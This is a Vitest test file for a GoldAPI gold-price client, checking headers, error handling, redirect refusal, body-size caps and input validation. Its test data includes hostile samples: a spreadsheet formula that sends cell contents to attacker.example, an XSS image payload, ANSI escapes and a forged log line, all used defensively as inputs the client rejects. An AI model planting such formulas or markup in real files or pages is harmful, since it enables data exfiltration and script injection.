import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { goldApiClient } from '../../src/clients/goldapi.js';
import { fixture } from '../support/fixtures.js';
import { startFakeProviders, type FakeProviders } from '../support/fakeProviders.js';
import { realHttp } from '../support/http.js';
import { businessDate } from '../support/dates.js';

const KEY = 'goldapi-secret-abcdef-io';
let fake: FakeProviders;
beforeAll(async () => (fake = await startFakeProviders()));
afterAll(() => fake.close());
beforeEach(() => fake.reset());

const client = (timeoutMs?: number, maxResponseBytes?: number) =>
  goldApiClient({ baseUrl: fake.baseUrl('goldapi'), apiKey: KEY, currency: 'USD' }, realHttp(timeoutMs, maxResponseBytes));
const MiB = 1024 * 1024;

describe('goldapi client over HTTP', () => {
  it('asks /XAU/USD with the x-access-token header and converts the seconds timestamp and the session start', async () => {
    const result = await client().fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
    expect(result.ok && result.value).toEqual({
      provider: 'goldapi',
      currency: 'USD',
      source: 'FOREXCOM',
      timestamp: '2025-07-08T18:00:12.000Z',
      sessionStart: '2025-07-08T00:00:00.000Z',
      price: 3301.45,
      open: 3337.6,
      previousClose: 3337.6,
      high: 3345.15,
      low: 3287.92,
    });
    expect(fake.requests[0]?.path).toBe('/XAU/USD');
    expect(fake.requests[0]?.headers['x-access-token']).toBe(KEY);
  });

  it('asks /XAU/USD/YYYYMMDD for a past date: an LBMA quote with a milliseconds timestamp and no open/high/low', async () => {
    const result = await client().fetchGoldPrice({ date: businessDate('2025-07-07'), mode: 'historical' });
    expect(fake.requests[0]?.path).toBe('/XAU/USD/20250707');
    expect(result.ok && result.value).toEqual({
      provider: 'goldapi',
      currency: 'USD',
      source: 'LBMA',
      timestamp: '2025-07-07T10:30:00.000Z',
      sessionStart: null,
      price: 3312.25,
      open: null,
      previousClose: 3340.1,
      high: null,
      low: null,
    });
  });

  it.each([
    [{ status: 403, json: { error: 'Invalid API Key' } }, 'permanent', /HTTP 403: Invalid API Key; check GOLDAPI_KEY/],
    [{ status: 403, text: '' }, 'permanent', /HTTP 403: check GOLDAPI_KEY and the quota/],
    [
      { status: 429, json: { error: 'Too many requests' }, headers: { 'retry-after': '60' } },
      'transient',
      /rate limited, HTTP 429: Too many requests/,
    ],
    [{ status: 502, text: 'Bad gateway' }, 'transient', /server error, HTTP 502/],
    [{ json: { ...fixture('goldapi-latest'), price: '3301.45' } }, 'permanent', /invalid response: price/],
    [{ json: { ...fixture('goldapi-latest'), price: null } }, 'permanent', /invalid response: price/],
    [{ json: { ...fixture('goldapi-latest'), currency: 'EUR' } }, 'permanent', /quoted in EUR, asked for USD/],
    [{ text: '{"price":' }, 'permanent', /body is not JSON/],
    [
      { json: { ...fixture('goldapi-latest'), timestamp: 9e15 } },
      'permanent',
      /invalid response: timestamp: must be an instant between 1999 and 2100/,
    ],
    [{ json: { ...fixture('goldapi-latest'), timestamp: 86_400 } }, 'permanent', /invalid response: timestamp: must be an instant/],
    [{ json: { ...fixture('goldapi-latest'), open_time: 9e15 } }, 'permanent', /invalid response: open_time: must be an instant/],
  ])('turns %j into a %s failure', async (answer, kind, message) => {
    fake.answer('goldapi', answer);
    const result = await client().fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
    expect(!result.ok && result.error).toMatchObject({ source: 'goldapi', kind, message: expect.stringMatching(message) });
  });

  it.each([302, 307] as const)('never follows a %i redirect: the other host gets no request and no key', async (status) => {
    const other = await startFakeProviders();
    try {
      fake.answer('goldapi', { redirect: `${other.baseUrl('goldapi')}/XAU/USD?token=${KEY}`, status });
      const result = await client().fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
      expect(other.requests).toEqual([]);
      const otherHost = new URL(other.baseUrl('goldapi')).host;
      expect(!result.ok && result.error).toEqual({
        source: 'goldapi',
        kind: 'permanent',
        message: `redirected (HTTP ${status}) to ${otherHost}; redirects are never followed, check the base URL setting`,
      });
    } finally {
      await other.close();
    }
  });

  it('stops reading a 50 MB body at the 1 MiB cap: permanent, and the server could send only a fraction of it', async () => {
    fake.answer('goldapi', { stream: 50 * MiB });
    const result = await client(20_000).fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
    expect(!result.ok && result.error).toEqual({
      source: 'goldapi',
      kind: 'permanent',
      message: 'response larger than the 1048576-byte cap (FXGOLD_MAX_RESPONSE_BYTES)',
    });
    // Socket buffers on loopback hold a few MB at most; reading it all would have let the server write all 50.
    expect(fake.bodyBytesWritten()).toBeLessThan(16 * MiB);
  });

  it('refuses a body whose Content-Length is over the cap without waiting for it', async () => {
    // The body never comes: reading it would end in the timeout instead of this answer.
    fake.answer('goldapi', { text: '', headers: { 'content-length': String(2 * MiB) } });
    const result = await client(10_000).fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
    expect(!result.ok && result.error).toMatchObject({
      kind: 'permanent',
      message: expect.stringMatching(/larger than the 1048576-byte cap/),
    });
  });

  it.each([
    ['5 MB of text', 'Invalid API Key '.repeat(330_000)],
    ['ANSI escapes', '\u001b[2J\u001b[31mInvalid API Key\u001b[0m'],
    ['a forged line', 'Invalid API Key\nfx-gold: stored row 2025-07-08 OK'],
  ])('reduces a hostile error text (%s) to one short line', async (_what, error) => {
    fake.answer('goldapi', { status: 403, json: { error } });
    const result = await client(5_000, 8 * MiB).fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
    expect(result.ok).toBe(false);
    const message = result.ok ? '' : result.error.message;
    expect(message).toMatch(
      /^request refused, HTTP 403: Invalid API Key.*; check GOLDAPI_KEY and the quota at https:\/\/www\.goldapi\.io\/dashboard$/,
    );
    // eslint-disable-next-line no-control-regex -- on purpose: the message must carry no control characters
    expect(message).not.toMatch(/[\u0000-\u001f]/);
    expect(message.length).toBeLessThan(400);
  });

  it.each([
    ['a formula', '=HYPERLINK("http://attacker.example/?"&A1,"click")'],
    ['markup', '<img src=x onerror=alert(1)>'],
    ['lower case', 'forexcom'],
    ['a long name', 'F'.repeat(33)],
    ['the key itself', KEY],
  ])('refuses an exchange that is not a closed name (%s): permanent, naming the field, never echoing it', async (_what, exchange) => {
    fake.answer('goldapi', { json: { ...fixture('goldapi-latest'), exchange } });
    const result = await client().fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
    expect(result.ok).toBe(false);
    const error = result.ok ? undefined : result.error;
    expect(error).toMatchObject({ source: 'goldapi', kind: 'permanent' });
    expect(error?.message).toMatch(/^invalid response: exchange: /);
    expect(error?.message).not.toContain(exchange);
  });

  it('refuses an exchange that is the key, or holds it, in any letter case, even when the key looks like a name', async () => {
    const upperKey = 'GOLDKEY-0123456789ABCDEF';
    const keyed = goldApiClient({ baseUrl: fake.baseUrl('goldapi'), apiKey: upperKey, currency: 'USD' }, realHttp());
    for (const exchange of [upperKey, `X${upperKey}`]) {
      fake.answer('goldapi', { json: { ...fixture('goldapi-latest'), exchange } });
      const result = await keyed.fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
      expect(result.ok ? undefined : result.error).toEqual({
        source: 'goldapi',
        kind: 'permanent',
        message: 'invalid response: exchange: must not contain the API key (GOLDAPI_KEY)',
      });
    }
    // Its own lower-case form would be no name at all: refused by the pattern.
    fake.answer('goldapi', { json: { ...fixture('goldapi-latest'), exchange: upperKey.toLowerCase() } });
    expect((await keyed.fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' })).ok).toBe(false);
  });

  it('times out a hanging server as a transient failure', async () => {
    fake.answer('goldapi', { hang: true });
    const result = await client(250).fetchGoldPrice({ date: businessDate('2025-07-08'), mode: 'latest' });
    expect(!result.ok && result.error).toMatchObject({
      kind: 'transient',
      message: expect.stringMatching(/^no answer within 250 ms from 127\.0\.0\.1:\d+$/),
    });
  });
});
